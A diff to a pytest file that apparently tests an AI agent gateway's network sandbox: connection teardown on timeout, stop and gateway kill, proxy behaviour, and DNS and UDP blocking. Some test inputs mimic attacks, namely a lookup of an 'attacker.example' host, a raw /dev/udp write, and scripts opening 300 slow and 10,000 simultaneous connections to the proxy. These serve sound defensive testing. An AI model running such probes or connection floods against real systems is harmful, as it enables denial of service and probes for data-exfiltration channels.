@@ -5,14 +5,20 @@ See docs/contract/tools.md#the-network-of-commands.
 
 import contextlib
 import http.server
+import os
+import shutil
+import socket
 import sqlite3
 import threading
+import time
+from pathlib import Path
 
 import pytest
 
-from approvals import call_asked
-from jobs import wait_for
-from tools import call_tool, new_agent, new_bound_agent, new_thread
+from approvals import call_asked, decide, person
+from checks import PATIENCE, accepted
+from jobs import chat_stop, wait_for
+from tools import call_tool, calls, new_agent, new_bound_agent, new_thread, of_kind
 
 
 class ReplyingHandler(http.server.BaseHTTPRequestHandler):
@@ -123,10 +129,167 @@ def test_a_person_is_asked_for_a_host(talker, new_name, port):
     assert "is no public address" in end["output"], "a yes opens no private address"
 
 
-def test_connections_end_with_their_command(bash, port):
-    output = bash(f"curl -sS --noproxy '' http://127.0.0.1:{port}/ & exec 3<>/dev/tcp/127.0.0.1/61980; "
-                  "printf 'CONNECT' >&3; sleep 1000", hosts=["127.0.0.1"], timeout_s=1)
-    assert "timed out after 1 s" in output
+def test_the_time_that_a_person_takes_is_not_the_commands(talker, new_name, port):
+    agent = new_agent(talker.gateway, new_name("asks"), stage="operator")
+    command = f"curl -sS --noproxy '' http://127.0.0.1:{port}/; echo went on"
+    with person(talker, new_thread(talker.gateway, agent), calls(("Bash", {"command": command, "timeout_s": 1})),
+                "Done.") as somebody:
+        request = somebody.asked()
+        asked_at = time.monotonic()
+        wait_for(lambda: time.monotonic() > asked_at + 2)
+        decide(talker.gateway, request, "deny")
+        output = somebody.result()["output"]
+    assert "went on" in output and "timed out" not in output
+
+
+@contextlib.contextmanager
+def silent_server():
+    """Accepts connections, and says nothing."""
+    with socket.create_server(("127.0.0.1", 0)) as listener:
+        listener.settimeout(PATIENCE)
+        yield listener
+
+
+def seconds_until_closed(connection):
+    """Returns how long the other side still holds the connection."""
+    connection.settimeout(PATIENCE)
+    began = time.monotonic()
+    try:
+        while connection.recv(1000):
+            pass
+    except ConnectionResetError:
+        pass
+    return time.monotonic() - began
+
+
+def command_that_holds(listener):
+    return f"curl -sS --noproxy '' http://127.0.0.1:{listener.getsockname()[1]}/; sleep 1000"
+
+
+def test_connections_end_with_their_command(bash):
+    with silent_server() as listener:
+        assert "timed out after 1 s" in bash(command_that_holds(listener), hosts=["127.0.0.1"], timeout_s=1)
+        assert seconds_until_closed(listener.accept()[0]) < 1
+
+
+def test_connections_end_when_a_command_is_stopped(talker, new_name):
+    agent = new_bound_agent(talker.gateway, new_name, hosts=["127.0.0.1"])
+    thread = new_thread(talker.gateway, agent)
+    with silent_server() as listener, talker.gateway.events(thread["id"]) as events:
+        talker.stub.script(calls(("Bash", {"command": command_that_holds(listener)})))
+        turn = accepted(talker.gateway.http.post("/chat", json={"content": "Do it.", "threadId": thread["id"]}), 201)
+        connection = listener.accept()[0]
+        chat_stop(talker.gateway, thread["id"])
+        assert seconds_until_closed(connection) < 1
+        assert events.run(turn["id"])[-1]["type"] == "stopped"
+
+
+def test_connections_end_with_a_killed_gateway(own_talker, new_name):
+    gateway = own_talker.gateway
+    thread = new_thread(gateway, new_bound_agent(gateway, new_name, hosts=["127.0.0.1"]))
+    with silent_server() as listener:
+        own_talker.stub.script(calls(("Bash", {"command": command_that_holds(listener)})))
+        accepted(gateway.http.post("/chat", json={"content": "Do it.", "threadId": thread["id"]}), 201)
+        connection = listener.accept()[0]
+        gateway.kill()
+        assert seconds_until_closed(connection) < 1
+
+
+SLOW_CONNECTS = r"""
+import socket, sys
+slow = [socket.create_connection(("127.0.0.1", 61980)) for _ in range(300)]
+for one in slow:
+    one.sendall(b"CONNECT exam")
+good = socket.create_connection(("127.0.0.1", 61980))
+good.sendall(b"GET http://127.0.0.1:%d/after HTTP/1.1\r\n\r\n" % int(sys.argv[1]))
+print(good.makefile().read())
+"""
+
+
+def test_slow_connects_end_and_others_get_their_turn(bash, port):
+    output = bash(f"/usr/bin/python3 - {port} <<'END'\n{SLOW_CONNECTS}\nEND", hosts=["127.0.0.1"])
+    assert "reached /after" in output
+
+
+MANY_CONNECTIONS = r"""
+import errno, resource, select, socket, sys
+resource.setrlimit(resource.RLIMIT_NOFILE, (11_000, 11_000))
+many = []
+for _ in range(10_000):
+    one = socket.socket()
+    one.setblocking(False)
+    one.connect_ex(("127.0.0.1", 61980))
+    many.append(one)
+for one in many:
+    try:
+        one.send(b"CONNECT 127.0.0.1:%s HTTP/1.1\r\n" % sys.argv[1].encode())
+    except OSError:
+        pass
+print(len(many), "opened")
+open("opened", "w").close()
+import os, time
+while not os.path.exists("measured"):
+    time.sleep(0.01)
+"""
+
+
+def test_ten_thousand_connections_take_bounded_memory(own_talker, new_name, port):
+    gateway = own_talker.gateway
+    agent = new_bound_agent(gateway, new_name, hosts=["127.0.0.1"])
+    thread = new_thread(gateway, agent)
+    workspace = gateway.data / "agents" / agent["name"] / "workspace"
+    before = resident_bytes(gateway)
+    command = (f"/usr/bin/python3 - {port} <<'END'\n{MANY_CONNECTIONS}\nEND\n"
+               f"curl -sS --noproxy '' http://127.0.0.1:{port}/after")
+    own_talker.stub.script(calls(("Bash", {"command": command})), "Done.")
+    with gateway.events(thread["id"]) as events:
+        turn = accepted(gateway.http.post("/chat", json={"content": "Do it.", "threadId": thread["id"]}), 201)
+        wait_for((workspace / "opened").exists)
+        assert gateway.http.get("/health").status_code == 200
+        assert resident_bytes(gateway) - before < 64 * 2**20
+        (workspace / "measured").touch()
+        output = of_kind(events.run(turn["id"]), "tool-end")[0]["output"]
+    assert "10000 opened" in output and "reached /after" in output
+
+
+def resident_bytes(gateway):
+    pages = int(Path(f"/proc/{gateway.process.pid}/statm").read_text().split()[1])
+    return pages * os.sysconf("SC_PAGE_SIZE")
+
+
+def test_a_command_has_neither_datagrams_nor_name_servers(bash):
+    output = bash("/usr/bin/python3 -c 'import socket; print(socket.getaddrinfo(\"secret.attacker.example\", 80))'; "
+                  "(exec 3<>/dev/udp/192.0.2.1/53 && echo x >&3 && echo sent); ip link 2>/dev/null | grep -v -w lo")
+    assert "gaierror" in output and "unreachable" in output and "sent" not in output
+
+
+def test_named_loopback_is_asked_through_the_proxy_without_further_options(bash, port):
+    output = bash(f"curl -sS http://127.0.0.1:{port}/plain; curl -sS http://localhost:{port}/", hosts=["127.0.0.1"])
+    assert "reached /plain" in output and "permission denied: localhost" in output
+
+
+SSH_SERVER = "SSH-2.0-test\r\n"
+
+
+def test_git_over_ssh_goes_through_the_proxy(bash):
+    """As far as a server without keys lets it: it hears the client's first line and answers."""
+    if not shutil.which("ssh", path="/usr/bin:/bin"):
+        pytest.skip("ssh is not installed")
+    heard = []
+
+    def serve(listener):
+        connection = listener.accept()[0]
+        connection.sendall(SSH_SERVER.encode())
+        heard.append(connection.makefile("rb").readline())
+        connection.close()
+
+    with silent_server() as listener:
+        thread = threading.Thread(target=serve, args=(listener,))
+        thread.start()
+        output = bash(f"git clone ssh://git@127.0.0.1:{listener.getsockname()[1]}/x.git", hosts=["127.0.0.1"])
+        thread.join()
+    assert heard and heard[0].startswith(b"SSH-2.0-"), output
+    assert bash.changes["hosts"][0]["allowed"]
 
 
 def test_hosts_are_forgotten_with_age(make_gateway):
